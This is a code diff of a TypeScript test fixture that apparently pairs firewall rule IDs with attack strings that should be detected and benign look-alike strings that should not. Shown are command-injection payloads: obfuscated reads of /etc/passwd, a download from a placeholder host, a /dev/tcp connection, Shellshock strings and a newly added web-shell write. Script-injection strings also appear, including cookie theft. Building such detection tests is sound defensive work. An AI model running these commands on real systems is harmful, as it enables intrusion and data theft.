@@ -29,7 +29,7 @@ const SAMPLES: Record<number, [string[], string[]]> = {
   941150: [['x=document.cookie', '__proto__[admin]=1'], ['a document about cookies', 'the constructor of the house']],
   941160: [["setInterval('ale'+'rt(1)')", 'eval("x")'], ['set an interval', 'evaluate it']],
   941170: [['";fetch(x)//', "'-alert(1)//"], ["it's alert", 'see (page 2)']],
-  932100: [['x;{curl,-o,/tmp/s,http://h/}', '; cat /etc/hosts', ";a=i;b=d;$a$b", "test.jpg; id #", ";/???/c?t /???/p??s??", "& c^m^d /c w^h^o^a^m^i", "| wmic process call create \"calc.exe\"", "$(rev<<<'imaohw')"], ['cat and dog', 'Set the table\nType your name']],
+  932100: [['x;{curl,-o,/tmp/s,http://h/}', '; cat /etc/hosts', ";a=i;b=d;$a$b", "test.jpg; id #", ";/???/c?t /???/p??s??", "& c^m^d /c w^h^o^a^m^i", "| wmic process call create \"calc.exe\"", "$(rev<<<'imaohw')", 'echo x > /var/www/s.php'], ['cat and dog', 'Set the table\nType your name', 'curl -s https://example.org > /dev/null 2>&1', 'ls -la /var/log']],
   932110: [['$(id)', 'a=`whoami`'], ['costs $ 5 (each)', 'run `ls -la` to see the files']],
   932120: [['() { :; }; echo', '() { x; }; id'], ['() {} empty', 'f() { return 1 }']],
   932130: [['cat</dev/tcp/192.0.2.1/80', '/bin/bash -c id'], ['the bin is bashed', 'my /bin folder']],
